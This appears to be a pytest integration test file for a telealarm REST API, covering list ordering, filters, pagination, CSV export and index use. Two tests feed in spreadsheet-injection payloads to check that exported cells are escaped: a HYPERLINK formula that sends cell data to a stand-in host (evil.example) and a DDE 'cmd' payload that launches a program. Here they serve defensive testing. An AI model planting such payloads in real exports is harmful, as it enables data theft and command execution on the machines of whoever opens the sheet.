"""Lists: ranges, orders, sheets for a spreadsheet, and counts."""

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from peewee import SqliteDatabase

from telealarm.api.app import RESOURCES
from telealarm.api.core.links import Links
from telealarm.api.core.request_context import RequestContext
from telealarm.api.rest import csv as rest_csv
from telealarm.api.rest import filters
from telealarm.models import Alarm, Event, User
from telealarm.rules.url_guard import UrlGuard
from telealarm.store.access import visibility
from telealarm.store.engine import list_counts
from telealarm.store.engine.database import Database
from telealarm.store.engine.list_counts import Counts
from telealarm.store.survey.audio_files import AudioFolder
from telealarm.store.survey.voice_messages import VoiceMessages
from tests.integration.api_client import Api, clinic, id_of
from tests.lab import crowd
from tests.lab.waiting import until


async def three_events(api: Api) -> list[str]:
    """At 10:00 on the 3rd, the 1st and the 2nd of January, in Madrid; their links."""
    made = await clinic(api)
    links = []
    for day in (3, 1, 2):
        body = {"title": f"day {day}", "calendar": made.calendar, "start": f"2030-01-0{day} 10:00"}
        links.append((await api.made("event/", body))["url"])
    return links


def titles(body: dict[str, Any]) -> list[str]:
    return [row["title"][-1] for row in body["results"]]


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_an_order_from_a_closed_set(api: Api) -> None:
    await three_events(api)
    for order, expected in (
        ("", "312"),
        ("id", "312"),
        ("-id", "213"),
        ("start", "123"),
        ("-start", "321"),
    ):
        found = await api.get(f"event/?ordering={order}" if order else "event/")
        assert titles(found.body) == list(expected), order
    for order in ("title", "-", "start,id", "--start", "owner__password_hash"):
        reply = await api.get(f"event/?ordering={order}")
        assert reply.status == 400
        right = "must be one of id, -id, start, -start"
        assert reply.body == {"ordering": [right]}


async def test_pages_keep_the_order_and_the_filters(api: Api) -> None:
    await three_events(api)
    first = (await api.get("event/?ordering=-start&page_size=2&status=1")).body
    assert (first["count"], titles(first)) == (3, ["3", "2"])
    last = (await api.get(first["next"])).body
    assert (last["count"], titles(last), last["next"]) == (3, ["1"], None)
    assert (await api.get(last["previous"])).body == first


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("start=2030-01-02 10:00", "2"),
        ("start__gte=2030-01-02 10:00", "23"),
        ("start__gte=2030-01-02 10:00&ordering=id", "32"),
        ("start__gt=2030-01-02T10:00:00%2B01:00", "3"),
        # A `+` that was not escaped is a space once it is here.
        ("start__gt=2030-01-02T10:00:00%2001:00", "3"),
        ("start__lte=2030-01-02T09:00Z", "12"),
        ("start__lte=2030-01-02T09:00Z&ordering=-start", "21"),
        ("start__lt=2030-01-02 10:00", "1"),
        ("start__gte=2030-01-02 00:00&start__lt=2030-01-03 00:00", "2"),
        ("end__gt=2031-01-01 00:00", ""),
    ],
)
async def test_ranges_of_time_in_the_forms_of_the_api(api: Api, query: str, expected: str) -> None:
    await three_events(api)
    assert titles((await api.get(f"event/?{query}")).body) == list(expected)


async def test_relations_are_ids_or_links_and_numbers_are_read_as_dialled(api: Api) -> None:
    events = await three_events(api)
    for number, event in (("600100200", events[0]), ("+34600100200", events[1])):
        await api.made("alarm/", {"event": event, "alarm_phonenumber": number})
    for query, count in (
        (f"event={events[0]}", 1),
        (f"event={id_of(events[0])}", 1),
        ("alarm_phonenumber=600 100-200", 1),
        ("alarm_phonenumber=%2B34600100200", 1),
        ("event_start__lt=2030-01-02 00:00", 1),
        ("event_start__gte=2030-01-01 00:00&result=0&status=1", 2),
    ):
        assert (await api.get(f"alarm/?{query}")).body["count"] == count, query
    calendar = (await api.get(events[0])).body["calendar"]
    assert (await api.get(f"event/?calendar={calendar}")).body["count"] == 3
    assert (await api.get(f"event/?parent_event={id_of(events[0])}")).body["count"] == 0


async def test_every_wrong_filter_is_named(api: Api) -> None:
    query = "start__gte=tomorrow&start__gte__x=1&status=x&calendar=http://x/rest-api/event/1/"
    reply = await api.get(f"event/?{query}&end=1066-10-14 09:00")
    assert reply.status == 400
    assert set(reply.body) == {"start__gte", "start__gte__x", "status", "calendar", "end"}
    reply = await api.get("event/?format=xml")
    assert (reply.status, reply.body) == (400, {"format": ["must be json or csv"]})
    reply = await api.get("event/?page=0&page_size=1001")
    assert (reply.status, set(reply.body)) == (400, {"page", "page_size"})
    for kind in ("json", "csv"):
        query = f"page=0&page_size=10001&ordering=end&status=x&color=1&format={kind}"
        reply = await api.get(f"event/?{query}")
        assert reply.status == 400
        assert set(reply.body) == {"page", "page_size", "ordering", "status", "color"}


async def test_a_sheet_has_the_rows_of_the_list(api: Api) -> None:
    await three_events(api)
    reply = await api.get("event/?format=csv&ordering=start&start__gte=2030-01-02 00:00")
    assert reply.status == 200
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.headers["Content-Disposition"] == 'attachment; filename="event.csv"'
    rows = table(reply.text)
    listed = (await api.get("event/?format=json&ordering=start")).body["results"][1:]
    assert [row["title"] for row in rows] == ["day 2", "day 3"]
    for row, shown in zip(rows, listed, strict=True):
        assert set(row) == set(shown)
        assert (row["url"], row["start"]) == (shown["url"], shown["start"])
        assert (row["description"], row["status"]) == ("", "1")
    nobody = await api.get("event/?format=csv&status=2")
    assert nobody.text.splitlines() == [reply.text.splitlines()[0]]


async def test_a_longer_sheet_says_where_it_goes_on(api: Api) -> None:
    await three_events(api)
    first = await api.get("event/?format=csv&page_size=2")
    link = first.headers["Link"]
    assert link.endswith('; rel="next"')
    last = await api.get(link.split(">")[0].removeprefix("<"))
    assert "Link" not in last.headers
    assert [row["title"] for row in table(first.text) + table(last.text)] == [
        "day 3",
        "day 1",
        "day 2",
    ]
    assert (await api.get("event/?format=csv&page=3&page_size=2")).status == 404
    assert (await api.get("event/?format=csv", user=None)).status == 401


async def test_what_others_write_is_no_formula_in_a_sheet(api: Api) -> None:
    made = await clinic(api)
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    body = {"title": formula, "calendar": made.calendar, "description": "\t=1+1"}
    event = await api.made("event/", body)
    await api.made("alarm/", {"event": event["url"], "alarm_phonenumber": "+34600100200"})
    (row,) = table((await api.get("event/?format=csv")).text)
    assert (row["title"], row["description"]) == (f"'{formula}", "'\t=1+1")
    (row,) = table((await api.get("alarm/?format=csv")).text)
    assert row["alarm_phonenumber"] == "+34600100200"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        ("-5.25", "-5.25"),
        ("+34600100200", "+34600100200"),
        ("+34 600+cmd|' /C calc'!A0", "'+34 600+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("  plain", "  plain"),
        ({"a": "ñ"}, '{"a": "ñ"}'),
        ("plain", "plain"),
    ],
)
def test_cells(value: Any, cell: str) -> None:
    assert rest_csv.cell(value) == cell


async def test_a_long_list_is_counted_behind_its_first_page(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(list_counts, "EXACT_TO", 1)
    events = await three_events(api)
    query = "event/?page_size=1"
    first = (await api.get(query)).body
    assert (first["count"], first["next"] is not None) == (2, True)

    async def counts(expected: int) -> None:
        async def seen() -> bool:
            return bool((await api.get(query)).body["count"] == expected)

        await until(seen, 30, f"{expected} are counted")

    await counts(3)
    calendar = (await api.get(events[0])).body["calendar"]
    await api.made("event/", {"title": "another", "calendar": calendar})
    assert (await api.get(query)).body["count"] == 4
    await api.delete(events[1])
    # Beyond the limit a deletion may be seen late, but the pages never lie.
    last = (await api.get("event/?page_size=1&page=3")).body
    assert (last["count"], last["next"]) == (3, None)
    monkeypatch.setattr(list_counts, "KEPT", timedelta(0))
    await counts(3)
    await api.delete(events[0])
    await api.delete(events[2])
    assert (await api.get(query)).body["count"] == 1, "a short list is always exact"


async def test_a_kept_count_is_made_anew_behind_the_list(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(list_counts, "EXACT_TO", 0)
    events = await three_events(api)
    kept, now = Counts(), datetime(2030, 1, 1, tzinfo=UTC)
    query = Event.select(Event.id).where(Event.deleted.is_null())

    def counted(later: int) -> Any:
        return api.db.read(lambda: kept.of(query, now + timedelta(seconds=later)))

    async def recounted(later: int) -> None:
        (stale,) = kept.stale()
        assert kept.stale() == []
        await api.db.read(lambda: kept.recount(stale, now + timedelta(seconds=later)))
        kept.done(stale)

    assert await counted(0) == 1
    await recounted(0)
    assert await counted(1) == 3
    await api.delete(events[0])
    assert (await counted(60), kept.stale()) == (3, [])
    # Nobody waits for it; whoever asks next has it.
    assert await counted(61) == 3
    await recounted(61)
    assert (await counted(62), kept.stale()) == (2, [])
    await api.delete(events[1])
    assert await counted(100_000) == 2
    # Many new rows are a reason too.
    await recounted(100_000)
    monkeypatch.setattr(list_counts, "ADDED", 1)
    calendar = (await api.get(events[2])).body["calendar"]
    for _ in range(2):
        await api.made("event/", {"title": "another", "calendar": calendar})
    assert await counted(100_001) == 2
    await recounted(100_001)
    assert await counted(100_002) == 3


async def counted(api: Api, link: str, expected: int, user: str) -> None:
    """Wait until the list behind the link is counted."""

    async def seen() -> bool:
        return bool((await api.get(link, user=user)).body["count"] == expected)

    await until(seen, 30, f"{expected} are counted")


async def test_words_that_stand_for_several_conditions_have_one_order(api: Api) -> None:
    (event, *_) = await three_events(api)
    made = [
        (await api.made("alarm/", {"event": event, "alarm_phonenumber": f"60010020{n}"}))["url"]
        for n in range(9)
    ]

    def settle() -> None:
        for n, link in enumerate(made):
            Alarm.update(status=(1, 2, 3, 4, 6)[n % 5]).where(Alarm.id == id_of(link)).execute()

    await api.db.write(settle)
    open_ones = [link for n, link in enumerate(made) if n % 5 in (0, 1, 3)]
    for query, expected in (("", open_ones), ("&ordering=-id", open_ones[::-1])):
        found: list[str] = []
        address = f"alarm/?outcome=open&page_size=2{query}"
        while address:
            page = (await api.get(address)).body
            found += [alarm["url"] for alarm in page["results"]]
            assert page["count"] == len(expected)
            address = page["next"]
        assert found == expected
    both = (await api.get("alarm/?outcome=unanswered,open&page_size=9")).body["results"]
    assert [alarm["url"] for alarm in both] == made


EVENTS = 20_000


@pytest.mark.fresh
async def test_the_first_page_of_a_long_list_sorts_nothing(api: Api) -> None:
    made = await clinic(api)
    calendar, creator = id_of(made.calendar), id_of(made.user)
    await api.db.write(crowd.of_events, EVENTS, owner=2, creator=creator, calendar=calendar)
    for query in ("", "&ordering=-start", "&start__gte=2030-01-02 01:00&ordering=start"):
        for user in ("manager", "root"):
            reply = await api.get(f"event/?page_size=10{query}", user=user)
            assert reply.status == 200
            assert list_counts.EXACT_TO < reply.body["count"] <= EVENTS
            await counted(api, reply.body["next"], EVENTS - ("gte" in query) * 24 * 60, user)

    def plans() -> list[str]:
        found: list[str] = []
        database = Event._meta.database
        explain = "EXPLAIN QUERY PLAN" if isinstance(database, SqliteDatabase) else "EXPLAIN"
        for name in ("manager", "root"):
            ids = visibility.ids(User.get(User.username == name), Event)
            for order in ((Event.id,), (Event.start.desc(), Event.id.desc())):
                sql, values = ids.order_by(*order).limit(11).sql()
                steps = database.execute_sql(f"{explain} {sql}", values)
                found.extend(str(step) for step in steps)
        return found

    steps = await api.db.read(plans)
    assert len(steps) >= 4
    # What is not found in order by an index is sorted, on SQLite in a temporary one.
    assert [step for step in steps if "TEMP" in step or "Sort" in step] == []


@pytest.mark.fresh
@pytest.mark.parametrize(
    ("resource", "query", "columns"),
    [
        ("event", "status=3", {"status"}),
        ("event", "calendar=1", {"calendar_id"}),
        ("event", "start__gte=2030-01-01 00:00", {"start"}),
        ("event", "end__lt=2030-01-01 00:00", {"end"}),
        ("alarm", "outcome=cancelled", {"result"}),
        ("alarm", "outcome=open", {"status"}),
        ("alarm", "outcome=answered_no_key", {"status"}),
        ("alarm", "outcome=unanswered", {"status"}),
        ("alarm", "outcome=open,unanswered,confirmed", {"status", "result"}),
        ("alarm", "status=7", {"status"}),
        ("alarm", "result=2", {"result"}),
        ("alarm", "alarm_phonenumber=600100200", {"alarm_phonenumber"}),
        ("alarm-request", "status=3", {"status"}),
        ("alarm-request", "date__gte=2030-01-01 00:00", {"date"}),
        ("alarm-request", "date__gte=2030-01-01 00:00&date__lt=2030-01-02 00:00", {"date"}),
        ("callrequest", "disposition=BUSY", {"disposition"}),
        ("callrequest", "status=4", {"status"}),
        ("callrequest", "phone_number=600100200", {"phone_number"}),
        ("callrequest", "call_time__gte=2030-01-01 00:00", {"call_time"}),
    ],
)
@pytest.mark.parametrize("user", ["manager", "root"])
async def test_an_index_has_the_first_page_of_a_filtered_list(
    db: Database, resource: str, query: str, columns: set[str], user: str
) -> None:
    listed = next(one for one in RESOURCES if one.name == resource)
    asked = dict(part.split("=") for part in query.split("&"))

    def plan() -> list[str]:
        login = User.get(User.username == user)
        visit = RequestContext(
            login=login,
            links=Links("http://here"),
            path="/",
            query=asked,
            now=datetime(2030, 1, 1, tzinfo=UTC),
            recordings=AudioFolder(Path()),
            voice_messages=VoiceMessages(Path()),
            guard=UrlGuard(()),
        )
        ids = filters.narrowed(visit, visibility.ids(login, listed.model), listed.filters)
        database, steps = listed.model._meta.database, []
        explain, at = "EXPLAIN QUERY PLAN", 3
        if not isinstance(database, SqliteDatabase):
            explain, at = "EXPLAIN", 0
            # The tables are empty: what could be done is asked for, not what is cheapest now.
            for dear in ("seqscan", "bitmapscan", "sort", "incremental_sort"):
                database.execute_sql(f"SET LOCAL enable_{dear} = off")
        for part in filters.apart(visit, ids, listed.filters):
            sql, values = (
                filters.ordered(visit, part, listed.orders, listed.filters).limit(101).sql()
            )
            steps += [step[at] for step in database.execute_sql(f"{explain} {sql}", values)]
        return steps

    steps = await db.read(plan)
    # On SQLite an index is named with what it is searched by, on PostgreSQL this is a line.
    searched = " ".join(step for step in steps if "SEARCH" in step or "Index Cond" in step)
    for column in columns:
        assert column in searched.partition("(")[2], steps
    assert not [step for step in steps if "TEMP B-TREE" in step or "Sort" in step], steps
